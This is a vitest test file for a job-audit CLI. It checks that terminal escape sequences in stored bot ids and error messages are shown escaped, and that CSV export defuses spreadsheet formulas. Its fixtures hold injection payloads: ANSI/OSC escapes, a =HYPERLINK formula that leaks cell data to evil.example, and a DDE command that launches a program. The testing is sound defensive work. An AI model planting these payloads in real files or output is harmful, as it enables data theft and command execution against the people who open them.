import { mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { createTestDatabase, type TestDatabase } from "@forusbots/db/testing";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { runCli } from "./cli-process.ts";

const ESC = "\u001b";
const BEL = "\u0007";
/** A bot id that retitles the terminal (OSC 0) and clears the screen (CSI 2J) when printed raw. */
const HOSTILE_BOT = `evil${ESC}]0;pwned${BEL}${ESC}[2J`;
/** The same as the CLI shows it: every control character a visible escape. */
const HOSTILE_BOT_SHOWN = "evil\\x1b]0;pwned\\x07\\x1b[2J";
const JOB = "e5c0e5c0-0000-4000-8000-000000000001";
const ERROR_TEXT = `upload failed${ESC}[8m hidden\nforged line`;

const EVENTS = [
  { type: "job.accepted", jobId: JOB, botId: HOSTILE_BOT, at: "2026-03-01T10:00:00Z" },
  { type: "job.started", jobId: JOB, at: "2026-03-01T10:00:01Z" },
  {
    type: "stage",
    jobId: JOB,
    stageName: `upload${ESC}[1m`,
    startedAt: "2026-03-01T10:00:02Z",
    endedAt: "2026-03-01T10:00:05Z",
    status: "fail",
  },
  {
    type: "job.finished",
    jobId: JOB,
    state: "failed",
    at: "2026-03-01T10:00:06Z",
    errorMessage: ERROR_TEXT,
  },
];

/** No control character but the line breaks of the output's own layout. */
const expectNoControlCharacters = (text: string) => {
  // biome-ignore lint/suspicious/noControlCharactersInRegex: looking for them is the point.
  expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
};

describe("stored control characters in the CLI's text output", () => {
  let database: TestDatabase;
  let eventsFile: string;

  beforeAll(async () => {
    database = await createTestDatabase();
    eventsFile = join(mkdtempSync(join(tmpdir(), "forus-audit-escapes-")), "events.jsonl");
    writeFileSync(eventsFile, `${EVENTS.map((event) => JSON.stringify(event)).join("\n")}\n`);
    const run = await runCli(["ingest", eventsFile], { env: database.env });
    expect(run.stderr).toBe("");
    expect(run.status).toBe(0);
  });
  afterAll(async () => database?.dispose());

  const cli = (args: string[]) => runCli(args, { env: database.env });

  it("recent prints the bot id and the error escaped, each job on one line", async () => {
    const run = await cli(["recent"]);
    expect(run.status).toBe(0);
    expectNoControlCharacters(run.stdout);
    const rows = run.stdout.trimEnd().split("\n");
    // Header, rule, one row: the stored line break did not split it.
    expect(rows).toHaveLength(3);
    expect(rows[2]).toContain(HOSTILE_BOT_SHOWN);
    expect(rows[2]).toContain("upload failed\\x1b[8m hidden\\nforged line");
  });

  it("job prints its fields and its stages escaped", async () => {
    const run = await cli(["job", JOB]);
    expect(run.status).toBe(0);
    expectNoControlCharacters(run.stdout);
    expect(run.stdout).toMatch(/^bot\s+evil\\x1b\]0;pwned\\x07\\x1b\[2J$/m);
    expect(run.stdout).toMatch(/^error\s+upload failed\\x1b\[8m hidden\\nforged line$/m);
    expect(run.stdout).toMatch(/^upload\\x1b\[1m\s+fail\s/m);
  });

  it("metrics and timeline tables print the bot id escaped", async () => {
    for (const args of [["metrics"], ["timeline", "--from", "2026-03-01", "--to", "2026-03-02"]]) {
      const run = await cli(args);
      expect(run.status, args.join(" ")).toBe(0);
      expectNoControlCharacters(run.stdout);
      expect(run.stdout).toContain(HOSTILE_BOT_SHOWN);
    }
  });

  it("--json keeps the exact values, JSON-escaped", async () => {
    const recent = await cli(["recent", "--json"]);
    expectNoControlCharacters(recent.stdout);
    expect(recent.stdout).toContain(String.raw`evil\u001b]0;pwned\u0007\u001b[2J`);
    expect(JSON.parse(recent.stdout).jobs[0]).toMatchObject({
      botId: HOSTILE_BOT,
      errorMessage: ERROR_TEXT,
    });
    const job = JSON.parse((await cli(["job", JOB, "--json"])).stdout);
    expect(job.botId).toBe(HOSTILE_BOT);
    expect(job.stages[0].stageName).toBe(`upload${ESC}[1m`);
  });

  it("ingest's messages quote the stored bot id escaped", async () => {
    // The same job accepted again for another bot: a conflict naming the stored bot id.
    const conflicting = join(mkdtempSync(join(tmpdir(), "forus-audit-escapes-")), "again.jsonl");
    writeFileSync(conflicting, `${JSON.stringify({ ...EVENTS[0], botId: `other${ESC}[31m` })}\n`);
    const run = await cli(["ingest", conflicting]);
    expect(run.status).toBe(1);
    expectNoControlCharacters(run.stderr);
    expect(run.stderr).toContain(
      `line 1: botId: job ${JOB} was already accepted for bot "${HOSTILE_BOT_SHOWN}"`,
    );
  });

  it("an option value typed with control characters is quoted escaped in the refusal", async () => {
    const run = await cli(["recent", "--state", `${ESC}[2Jqueued`]);
    expect(run.status).toBe(2);
    expectNoControlCharacters(run.stderr);
    expect(run.stderr).toContain("\\x1b[2Jqueued");
  });
});

describe("export of spreadsheet formulas", () => {
  let database: TestDatabase;
  const FORMULA_BOT = '=HYPERLINK("https://evil.example/?"&A2,"open")';
  const FORMULA_JOB = "f0f0f0f0-0000-4000-8000-000000000001";
  const events = [
    { type: "job.accepted", jobId: FORMULA_JOB, botId: FORMULA_BOT, at: "2026-03-01T10:00:00Z" },
    { type: "job.started", jobId: FORMULA_JOB, at: "2026-03-01T10:00:01Z" },
    {
      type: "job.finished",
      jobId: FORMULA_JOB,
      state: "failed",
      at: "2026-03-01T10:00:02Z",
      errorMessage: "@SUM(1+1)*cmd|' /C calc'!A0",
    },
  ];

  beforeAll(async () => {
    database = await createTestDatabase();
    const run = await runCli(["ingest", "-"], {
      env: database.env,
      input: `${events.map((event) => JSON.stringify(event)).join("\n")}\n`,
    });
    expect(run.status).toBe(0);
  });
  afterAll(async () => database?.dispose());

  it("CSV writes formula-like cells with a leading ', quoted as RFC 4180 says", async () => {
    const run = await runCli(["export", "--format", "csv"], { env: database.env });
    expect(run.status).toBe(0);
    const [, row] = run.stdout.split("\r\n");
    // job_id, then bot_id: quoted (it holds quotes and a comma), after its leading '.
    expect(
      row?.startsWith(`${FORMULA_JOB},"'=HYPERLINK(""https://evil.example/?""&A2,""open"")",`),
    ).toBe(true);
    expect(row).toContain("'@SUM(1+1)*cmd|' /C calc'!A0");
    expect(row).not.toMatch(/(^|,)"?[=+\-@]/);
  });

  it("JSON Lines keeps the values exact, and ingests back to the same job", async () => {
    const run = await runCli(["export"], { env: database.env });
    expect(run.status).toBe(0);
    const exported = run.stdout
      .trim()
      .split("\n")
      .map((line) => JSON.parse(line));
    expect(exported[0]).toMatchObject({ type: "job.accepted", botId: FORMULA_BOT });
    expect(exported.at(-1)).toMatchObject({ errorMessage: "@SUM(1+1)*cmd|' /C calc'!A0" });
  });
});

describe("an ambiguous job id prefix listing hostile bot ids", () => {
  let database: TestDatabase;
  const jobs = ["dddd0000-0000-4000-8000-000000000001", "dddd0000-0000-4000-8000-000000000002"];

  beforeAll(async () => {
    database = await createTestDatabase();
    const accepted = jobs.map((jobId) =>
      JSON.stringify({
        type: "job.accepted",
        jobId,
        botId: HOSTILE_BOT,
        at: "2026-03-01T10:00:00Z",
      }),
    );
    const run = await runCli(["ingest", "-"], {
      env: database.env,
      input: `${accepted.join("\n")}\n`,
    });
    expect(run.status).toBe(0);
  });
  afterAll(async () => database?.dispose());

  it("lists each candidate on its own line, its bot id escaped", async () => {
    const run = await runCli(["job", "dddd0000"], { env: database.env });
    expect(run.status).toBe(2);
    expectNoControlCharacters(run.stderr);
    const candidates = run.stderr.split("\n").filter((line) => line.includes(HOSTILE_BOT_SHOWN));
    expect(candidates).toHaveLength(2);
    expect(candidates[0]).toContain(jobs[0]);
    expect(candidates[1]).toContain(jobs[1]);
  });
});
